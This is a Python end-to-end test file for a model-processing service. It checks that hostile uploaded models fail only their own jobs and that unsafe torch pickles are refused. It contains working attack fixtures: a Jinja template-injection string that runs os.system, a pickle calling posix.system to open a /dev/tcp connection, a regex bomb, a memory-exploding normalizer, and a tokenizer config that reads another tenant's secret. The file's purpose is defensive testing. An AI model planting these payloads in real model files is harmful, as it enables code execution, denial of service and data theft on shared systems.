"""Models and texts that pass the intake and are after the worker: each job ends with a plain word, and nothing else is hurt."""

from __future__ import annotations

import json
import socket
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from service import Service
from waiting import wait_until

pytestmark = [pytest.mark.e2e, pytest.mark.timeout(1500)]

EVALUATION = {"tokens": 256, "sequence_length": 64, "latency_rounds": 3}
SPEC = {"steps": [{"technique": "quantize.weights", "bits": 8}], "evaluation": EVALUATION}
SECRET = "the-secret-of-another-tenant"
Change = Callable[[Path, Path], None]


def edited(name: str, change: Callable[[dict[str, Any]], object]) -> Change:
    def edit(model: Path, _secret: Path) -> None:
        content = json.loads((model / name).read_text())
        change(content)
        (model / name).write_text(json.dumps(content))

    return edit


def words_for_ever(tokenizer: dict[str, Any]) -> None:
    """A pattern that takes time exponential in the length of a word."""
    tokenizer["pre_tokenizer"] = {
        "type": "Split", "pattern": {"Regex": "^(([a-z])+.)+[A-Z]([a-z])+$"}, "behavior": "Isolated", "invert": False,
    }  # fmt: skip


def text_without_end(tokenizer: dict[str, Any]) -> None:
    """Each replacement makes every character longer by a thousand."""
    step = {"type": "Replace", "pattern": {"Regex": "."}, "content": "a" * 1000}
    tokenizer["normalizer"] = {"type": "Sequence", "normalizers": [step] * 4}


def secret_vocabulary(model: Path, secret: Path) -> None:
    config = json.loads((model / "tokenizer_config.json").read_text())
    config |= {"tokenizer_class": "LlamaTokenizer", "vocab_file": str(secret), "tokenizer_file": str(secret)}
    (model / "tokenizer_config.json").write_text(json.dumps(config))
    (model / "tokenizer.json").unlink()


def evil_template(model: Path, secret: Path) -> None:
    attack = "{{ cycler.__init__.__globals__.os.system('touch %s') }}"
    (model / "chat_template.jinja").write_text(attack.replace("%s", str(secret.parent / "planted")))


def broken_sentencepiece(model: Path, _secret: Path) -> None:
    (model / "tokenizer.json").unlink()
    (model / "tokenizer_config.json").write_text('{"tokenizer_class": "LlamaTokenizer"}')
    (model / "tokenizer.model").write_bytes(b"\x0a\xff\xff\xff\xff\x0f" * 1000)


HOSTILE: dict[str, Change] = {
    "a regex bomb in the tokenizer": edited("tokenizer.json", words_for_ever),
    "a text that grows for ever": edited("tokenizer.json", text_without_end),
    "a vocabulary that is another's secret": secret_vocabulary,
    "a template that runs a command": evil_template,
    "a sentencepiece model of noise": broken_sentencepiece,
    "a thousand million channels": edited("config.json", lambda c: c.update(intermediate_size=10**9)),
}  # fmt: skip

HARMLESS = {
    "a regex bomb in the tokenizer",  # tokenizers gives up on it by itself
    "a template that runs a command",
}


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secrets" / "secret.json"
    path.parent.mkdir()
    path.write_text(json.dumps(SECRET))
    return path


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    with socket.create_server(("127.0.0.1", 0)) as listening:
        yield listening


@pytest.mark.parametrize("any_database", ["sqlite"], indirect=True)
def test_hostile_models_hurt_their_own_jobs_alone(
    start_service: Callable[[str], Service], valkey: Any, tmp_path: Path, secret: Path
) -> None:
    from tiny_models import tiny_model

    service = start_service(valkey.url)
    worker = service.start_worker()
    ends: dict[str, dict[str, Any]] = {}
    for number, (name, change) in enumerate(HOSTILE.items()):
        model = tiny_model("LlamaForCausalLM", tmp_path / str(number))
        change(model, secret)
        ends[name] = end_of_job(service, model)
    worker.family()
    shown = json.dumps(
        [{"name": name, "status": e["status"], "error": e["error"]} for name, e in ends.items()]
    )
    assert {name for name, end in ends.items() if end["status"] == "succeeded"} <= HARMLESS
    assert ends["a text that grows for ever"]["error"]["code"] == "out_of_memory"
    # Each failure is told in words, with what to do or whose defect it is.
    assert all(e["error"]["detail"] for e in ends.values() if e["status"] == "failed")
    assert SECRET not in shown
    assert [path.name for path in secret.parent.iterdir()] == [secret.name]
    assert no_artifact_holds(service, ends, SECRET.encode())
    sound = end_of_job(service, tiny_model("LlamaForCausalLM", tmp_path / "sound"))
    assert (sound["status"], sound["attempt"]) == ("succeeded", 1)
    assert worker.process.poll() is None
    wait_until(lambda: not [p for p in worker.alive() if "job_process" in " ".join(p.cmdline())], seconds=10)


# torch warns of its own ways to save a program.
@pytest.mark.filterwarnings("ignore::DeprecationWarning", "ignore::FutureWarning")
@pytest.mark.parametrize("any_database", ["sqlite"], indirect=True)
def test_programs_of_torch_are_refused_by_name(
    start_service: Callable[[str], Service], valkey: Any, tmp_path: Path, listener: socket.socket
) -> None:
    """Real ones: TorchScript that reads a file, and a torch.export archive whose sample inputs are a pickle that calls home."""
    service = start_service(valkey.url)
    for name, content in torch_programs(tmp_path, listener.getsockname()[1]).items():
        answer = service.client.put("/v1/models/content", params={"name": name}, content=content)
        problem = answer.json()
        assert (answer.status_code, problem["code"]) == (422, "unsafe_pickle")
        assert "save_file" in problem["hint"]
    listener.setblocking(False)
    with pytest.raises(BlockingIOError):
        listener.accept()


def end_of_job(service: Service, model: Path) -> dict[str, Any]:
    answer = service.try_upload(model)
    if answer.status_code == 201:
        spec = SPEC | {"resources": {"timeout_seconds": 90, "memory_budget": 2**31}}
        answer = service.client.post("/v1/jobs", json={"model": answer.json()["id"], "spec": spec})
    if answer.status_code != 202:
        assert answer.status_code == 422, answer.text
        return {"status": "failed", "error": answer.json(), "artifacts": []}
    return service.wait_for(answer.json()["id"], "succeeded", "failed", seconds=400)


def no_artifact_holds(service: Service, ends: dict[str, dict[str, Any]], content: bytes) -> bool:
    return not any(
        content in service.client.get(f"/v1/artifacts/{artifact['id']}/content").content
        for end in ends.values()
        for artifact in end["artifacts"]
    )


def torch_programs(directory: Path, port: int) -> dict[str, bytes]:
    import io
    import zipfile

    import torch

    class Adds(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    example = (torch.ones(2),)
    torch.jit.save(torch.jit.trace(Adds(), example), directory / "script.pt")
    torch.export.save(torch.export.export(Adds(), example), directory / "program.pt2")
    evil = f"cposix\nsystem\n(S'bash -c \"echo > /dev/tcp/127.0.0.1/{port}\"'\ntR.".encode()
    malicious = io.BytesIO()
    with zipfile.ZipFile(directory / "program.pt2") as old, zipfile.ZipFile(malicious, "w") as new:
        for entry in old.namelist():
            new.writestr(entry, evil if entry.endswith("model.pt") else old.read(entry))
    return {"script.pt": (directory / "script.pt").read_bytes(), "program.pt2": malicious.getvalue()}
